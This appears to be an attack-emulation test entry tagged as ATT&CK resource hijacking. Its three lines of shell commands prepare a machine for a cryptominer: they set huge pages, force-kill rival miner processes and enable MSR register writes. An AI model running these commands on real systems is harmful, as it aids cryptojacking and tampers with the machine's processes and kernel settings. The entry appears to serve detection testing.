# title: The machine is prepared for a miner: large pages, rivals ended, registers set
# technique: T1496.001 T1496
# needs: sysctl

sysctl -w vm.nr_hugepages=1280; echo 1280 >/proc/sys/vm/nr_hugepages
pkill -9 -f xmrig; pkill -9 -f kinsing; modprobe msr allow_writes=on 2>/dev/null; true
